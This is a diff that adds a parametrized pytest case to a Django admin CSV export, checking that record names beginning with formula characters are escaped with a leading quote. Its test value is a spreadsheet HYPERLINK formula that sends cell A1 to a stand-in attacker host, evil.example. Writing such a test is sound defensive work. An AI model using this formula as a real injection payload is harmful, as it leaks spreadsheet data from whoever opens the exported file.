@@ -94,3 +94,13 @@ def test_the_admin_action_exports_one_list(admin_client):
         follow=True,
     )
     assert "Export one list at a time." in two.content.decode()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_cannot_become_spreadsheet_formulas(admin_client, start):
+    """A record named by whoever filled a web form must not run in the marketer's spreadsheet."""
+    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    account = make_account(email="acme@example.com", name=name)
+    target_list = make_target_list(account, name="Formulas")
+    rows = read_csv(admin_client.get(f"/admin/targets/targetlist/{target_list.pk}/export/"))
+    assert rows[1] == ["acme@example.com", "'" + name, "Account", "no"]
